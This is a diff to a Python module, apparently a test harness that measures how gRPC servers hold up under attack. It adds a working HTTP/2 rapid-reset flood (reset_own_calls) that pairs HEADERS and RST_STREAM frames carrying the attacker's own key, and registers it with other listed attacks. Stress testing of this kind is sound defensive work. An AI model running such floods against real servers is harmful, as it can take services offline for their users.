@@ -216,6 +216,10 @@ def _frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
     return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body
 
 
+def _field(name: str, value: str) -> bytes:
+    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+
+
 _FIELDS = {
     ":method": "POST",
     ":scheme": "http",
@@ -224,10 +228,7 @@ _FIELDS = {
     "te": "trailers",
     "content-type": "application/grpc",
 }
-_BLOCK = b"".join(
-    b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
-    for name, value in _FIELDS.items()
-)
+_BLOCK = b"".join(_field(name, value) for name, value in _FIELDS.items())
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)
 # Of RST_STREAM: the client no longer needs the call.
 _CANCEL = (8).to_bytes(4, "big")
@@ -255,6 +256,15 @@ async def reset_calls(attacker: Attacker) -> None:
     await _flood(
         attacker,
         lambda stream: _frame(_HEADERS, _END_HEADERS, stream, _BLOCK) + _frame(_RESET, 0, stream, _CANCEL),
+    )
+
+
+async def reset_own_calls(attacker: Attacker) -> None:
+    """The same calls with the attacker's key."""
+    ((name, key),) = attacker.metadata
+    block = _BLOCK + _field(name, key)
+    await _flood(
+        attacker, lambda stream: _frame(_HEADERS, _END_HEADERS, stream, block) + _frame(_RESET, 0, stream, _CANCEL)
     )
 
 
@@ -312,6 +322,7 @@ ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
         headers_without_body,
         open_calls,
         reset_calls,
+        reset_own_calls,
     )
 }
 CONTROL = busy.__name__
